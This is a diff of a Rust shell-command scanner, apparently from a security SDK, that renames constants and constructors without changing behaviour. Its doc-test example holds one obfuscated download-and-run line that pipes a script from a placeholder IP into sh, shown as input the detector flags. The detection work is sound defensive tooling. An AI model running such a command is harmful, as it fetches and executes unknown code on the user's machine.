@@ -7,14 +7,14 @@
 //! the commands. Nothing is executed, and no variable except `$IFS` is expanded, so a script that
 //! is built at run time is not recognized.
 //!
-//! Time and memory are linear in the length of the text. At most [`LONGEST`] bytes are read, the
-//! beginning and the end of a longer text, and scripts nested deeper than [`DEEPEST`] are not.
+//! Time and memory are linear in the length of the text. At most [`MAX_SCRIPT_BYTES`] bytes are read, the
+//! beginning and the end of a longer text, and scripts nested deeper than [`MAX_DEPTH`] are not.
 //!
 //! ```
 //! use wardline_sdk::rules::command::{Commands, Kind};
 //!
 //! let words = ["sh", "-c", "cu''rl -fsSL http://203.0.113.9/x.sh | sh"];
-//! let signs = Commands::of_arguments(words).signs();
+//! let signs = Commands::from_arguments(words).signs();
 //! assert_eq!(signs[0].kind, Kind::DownloadAndRun);
 //! assert_eq!(signs[0].text, "curl -fsSL http://203.0.113.9/x.sh | sh");
 //! ```
@@ -46,13 +46,13 @@ pub use tools::is_offensive_image;
 use parse::{Command, Parser};
 
 /// The maximum length, in bytes, of a word or script that is read as a whole.
-pub const LONGEST: usize = 16 * 1024;
+pub const MAX_SCRIPT_BYTES: usize = 16 * 1024;
 
 /// The maximum nesting of scripts that are read; `sh -c "sh -c '...'"` has two levels.
-pub const DEEPEST: usize = 6;
+pub const MAX_DEPTH: usize = 6;
 
 /// The maximum length of a sign's text, in characters.
-const EVIDENCE: usize = 300;
+const MAX_SIGN_CHARS: usize = 300;
 
 /// A suspicious part of a command.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -76,7 +76,7 @@ impl Commands {
     /// argument that contains blanks, and the argument after a leading `-c`, are then parsed as
     /// scripts.
     #[must_use]
-    pub fn of_arguments<'a>(words: impl IntoIterator<Item = &'a str>) -> Self {
+    pub fn from_arguments<'a>(words: impl IntoIterator<Item = &'a str>) -> Self {
         Self {
             commands: Parser::default().arguments(words),
         }
@@ -84,7 +84,7 @@ impl Commands {
 
     /// Parses a shell script.
     #[must_use]
-    pub fn of_script(text: &str) -> Self {
+    pub fn from_script(text: &str) -> Self {
         Self {
             commands: Parser::default().script(text),
         }
@@ -93,14 +93,14 @@ impl Commands {
     /// Parses an argument vector whose words were joined with blanks, as those of lifecycle hooks
     /// and probes are: the text after `sh -c` is one script.
     #[must_use]
-    pub fn of_line(line: &str) -> Self {
-        Self::of_script(program::joined_script(line).unwrap_or(line))
+    pub fn from_line(line: &str) -> Self {
+        Self::from_script(program::joined_script(line).unwrap_or(line))
     }
 
     /// Returns the suspicious parts, each once, in the order of their kinds.
     #[must_use]
     pub fn signs(&self) -> Vec<Sign> {
-        let mut found = Found::default();
+        let mut found = FoundSigns::default();
         let commands = self.commands.as_slice();
         reverse_shell::find(commands, &mut found);
         miner::find(commands, &mut found);
@@ -136,13 +136,13 @@ impl Commands {
 
 /// The signs that were found so far.
 #[derive(Debug, Default)]
-struct Found {
+struct FoundSigns {
     signs: Vec<Sign>,
 }
 
-impl Found {
+impl FoundSigns {
     fn add(&mut self, kind: Kind, text: impl AsRef<str>) {
-        let text: String = text.as_ref().chars().take(EVIDENCE).collect();
+        let text: String = text.as_ref().chars().take(MAX_SIGN_CHARS).collect();
         let sign = Sign { kind, text };
         if !self.signs.contains(&sign) {
             self.signs.push(sign);
